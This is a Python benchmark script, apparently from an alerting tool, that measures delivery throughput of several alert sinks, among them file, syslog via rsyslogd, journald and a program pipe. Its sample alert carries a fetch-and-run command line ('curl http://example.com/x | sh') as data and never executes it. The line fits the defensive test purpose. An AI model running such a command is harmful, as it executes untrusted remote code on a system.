"""Alerts a second through sinks, unspooled: from a full queue to the last acknowledgement, encoding included.

    python -m benchmarks.sinks [--count 50000] [--only NAME]

A sink gets its alerts from a worker as in a run. The receivers of syslog are processes of their own; where there are
few cores they take their share of them.
"""

import argparse
import multiprocessing
import os
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

from mozu.core.api import Metrics, Sink
from mozu.core.delivery.encode.falco_json import FalcoJson
from mozu.core.delivery.memory_queue import MemoryQueue
from mozu.core.delivery.sink_worker import SinkWorker
from mozu.core.isolation.isolated import Isolated
from mozu.core.runtime.loop import run as run_loop
from mozu.core.testing import alert, context
from mozu.plugins.sinks.file import FileSettings, FileSink
from mozu.plugins.sinks.journald import JournaldSettings, JournaldSink
from mozu.plugins.sinks.program import ProgramSettings, ProgramSink
from mozu.plugins.sinks.stdout import StdoutSink
from mozu.plugins.sinks.syslog import SyslogSettings, SyslogSink
from tests.support.journald import journald
from tests.support.packing import packed
from tests.support.rsyslog import Certificates, rsyslog

Made = tuple[Sink, bool]
"""The sink, and whether it blocks."""


@contextmanager
def stdout() -> Iterator[Made]:
    """Into a pipe that a thread empties."""
    reading, writing = os.pipe()
    reader = threading.Thread(target=_empty, args=(reading,))
    reader.start()
    yield StdoutSink(writing), True
    os.close(writing)
    reader.join()
    os.close(reading)


def _empty(descriptor: int) -> None:
    while os.read(descriptor, 1 << 20):
        pass


def file(**settings: Any) -> Callable[[], Any]:
    """Return a maker of the sink on the disk with temporary files."""

    @contextmanager
    def made() -> Iterator[Made]:
        with tempfile.TemporaryDirectory() as folder:
            yield FileSink(FileSettings(path=Path(folder) / "alerts", **settings), context()), True

    return made


def _discard(listening: socket.socket) -> None:
    while True:
        connection, _ = listening.accept()
        while connection.recv(1 << 20):
            pass


@contextmanager
def discarded() -> Iterator[Made]:
    """Syslog over TCP to a process that reads and forgets."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        process = multiprocessing.Process(target=_discard, args=(listening,), daemon=True)
        process.start()
        yield syslog("tcp", listening.getsockname()[1]), False
        process.kill()
        process.join()


def syslog(transport: str, port: int, **settings: Any) -> SyslogSink:
    """Return a sink to the loopback."""
    return SyslogSink(SyslogSettings(transport=transport, host="127.0.0.1", port=port, **settings), context())


def to_rsyslog(transport: str) -> Callable[[], Any]:
    """A real rsyslogd that writes what it gets to a file."""

    @contextmanager
    def made() -> Iterator[Made]:
        with ExitStack() as stack:
            folder = Path(stack.enter_context(tempfile.TemporaryDirectory()))
            (folder / "certificates").mkdir()
            certificates = Certificates(folder / "certificates") if transport == "tls" else None
            daemon = stack.enter_context(rsyslog(folder, tls=certificates))
            more: dict[str, Any] = {}
            if certificates is not None:
                more["tls"] = {
                    "ca": certificates.ca,
                    "certificate": certificates.client,
                    "key": certificates.client_key,
                    "server_name": "syslog.example",
                }
            yield syslog(transport, daemon.udp if transport == "udp" else daemon.tcp, **more), False

    return made


@contextmanager
def journal() -> Iterator[Made]:
    """A real systemd-journald."""
    with tempfile.TemporaryDirectory() as folder, journald(Path(folder)) as daemon:
        yield JournaldSink(JournaldSettings(path=daemon.socket)), True


@contextmanager
def program() -> Iterator[Made]:
    """`cat` into nothing."""
    yield ProgramSink(ProgramSettings(command="exec cat >/dev/null"), context()), False


SINKS: dict[str, Callable[[], Any]] = {
    "stdout": stdout,
    "file, fsync never": file(fsync="never"),
    "file, fsync batch": file(fsync="batch"),
    "syslog TCP, discarded": discarded,
    "syslog TCP, rsyslogd": to_rsyslog("tcp"),
    "syslog TLS, rsyslogd": to_rsyslog("tls"),
    "syslog UDP, rsyslogd": to_rsyslog("udp"),
    "journald": journal,
    "program": program,
}


async def measure(sink: Sink, count: int, *, blocking: bool) -> float:
    """Alerts a second."""
    metrics = Metrics()
    queue = MemoryQueue(1 << 30, metrics)
    isolated = Isolated("sink", "measured", sink, metrics, blocking=blocking)
    worker = SinkWorker(isolated, FalcoJson(), queue, agent="host", on_closed=print)
    values = {"proc.cmdline": "bash -c 'curl http://example.com/x | sh'", "proc.name": "bash", "user.name": "root"}
    for _ in range(count):
        worker.accept(packed(alert("A shell was started", "Shell started in a container", **values)))
    await worker.start()
    queue.close()
    begin = time.perf_counter()
    await worker.run()
    seconds = time.perf_counter() - begin
    await worker.stop()
    counts = {name: value for name, _, value in metrics.collect()}
    assert counts["sink_alerts_delivered_total"] == count, counts
    return count / seconds


def main() -> None:
    """Print a table."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--count", type=int, default=50_000)
    parser.add_argument("--only", choices=SINKS)
    chosen = parser.parse_args()
    print("| sink | alerts/s |\n|---|---:|", flush=True)
    for name, made in SINKS.items():
        if chosen.only in (None, name):
            with made() as (sink, blocking):
                rate = run_loop(measure(sink, chosen.count, blocking=blocking))
            print(f"| {name} | {rate:,.0f} |", flush=True)


if __name__ == "__main__":
    main()
